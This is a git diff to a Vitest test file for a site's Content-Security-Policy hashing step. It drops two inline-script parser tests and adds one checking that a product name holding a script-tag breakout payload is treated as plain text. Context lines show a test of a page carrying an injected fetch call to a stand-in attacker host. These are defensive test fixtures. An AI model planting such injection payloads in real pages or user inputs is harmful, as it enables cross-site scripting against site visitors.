@@ -4,7 +4,7 @@ import { dirname, join } from 'node:path';
 import { brotliDecompressSync, gunzipSync } from 'node:zlib';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import { BROTLI_MIN_BYTES, precompress, startCompressing } from './precompress.ts';
-import { inlineScriptSpans, inlineScripts, scriptHash, secureSite } from './site-csp.ts';
+import { scriptHash, secureSite } from './site-csp.ts';
 
 let site: string;
 const write = (path: string, content: string) => {
@@ -19,35 +19,6 @@ afterAll(() => rmSync(site, { recursive: true, force: true }));
 
 /** The scripts these tests' pages carry, as the build's own (own-scripts.ts). */
 const ownScripts = new Set(['a()', 'b()', 'c()'].map((script) => scriptHash(script)));
-
-describe('inlineScripts', () => {
-  test('finds the scripts a browser runs and leaves out external scripts and JSON data blocks', () => {
-    const html = [
-      '<script>one()</script>',
-      '<script type="module">two()</script>',
-      '<script type="module" src="/_astro/app.js"></script>',
-      '<script type="application/ld+json">{"@type":"Product"}</script>',
-      '<SCRIPT type="text/javascript">three()</SCRIPT >',
-    ].join('');
-    expect(inlineScripts(html)).toEqual(['one()', 'two()', 'three()']);
-  });
-});
-
-describe('inlineScriptSpans', () => {
-  test("finds the same scripts as inlineScripts, by place, also in a page's bytes read as latin1", () => {
-    const html =
-      '<head><script>a("光谱")</script><script src="/x.js"></script><SCRIPT type="module">b()</SCRIPT ></head>';
-    const spans = inlineScriptSpans(html);
-    expect(spans.map(([start, end]) => html.slice(start, end))).toEqual(inlineScripts(html));
-    expect(inlineScripts(html)).toEqual(['a("光谱")', 'b()']);
-    const bytes = new TextEncoder().encode(html);
-    const latin1 = Buffer.from(bytes).toString('latin1');
-    expect(inlineScriptSpans(latin1).map(([start, end]) => scriptHash(bytes.subarray(start, end)))).toEqual([
-      scriptHash('a("光谱")'),
-      scriptHash('b()'),
-    ]);
-  });
-});
 
 describe('secureSite', () => {
   test("puts in each page a policy with its own inline scripts' hashes, and all of them in _headers", async () => {
@@ -120,6 +91,14 @@ describe('secureSite and scripts the build does not make', () => {
       /^\/product\/9-laser\/index\.html carries an inline script the build does not make \('sha256-[^']+': "fetch\(\\"https:\/\/evil\.example/,
     );
     expect(readFileSync(join(dir, 'product/9-laser/index.html'), 'utf8')).not.toContain('content-security-policy');
+  });
+
+  test("takes a script's letters in an attribute's value for what they are, text: a hostile product name passes", async () => {
+    const dir = join(site, 'hostile-name');
+    const name = '</script><script>window.pwned=1</script>';
+    write('hostile-name/index.html', page('a()').replace('</head>', `</head><body><img alt="${name}"></body>`));
+    const { scriptHashes } = await secureSite(dir, { ownScripts });
+    expect(scriptHashes).toEqual([scriptHash('a()')]);
   });
 
   test('reads every page again when the kept policy lists a hash the build does not make', async () => {
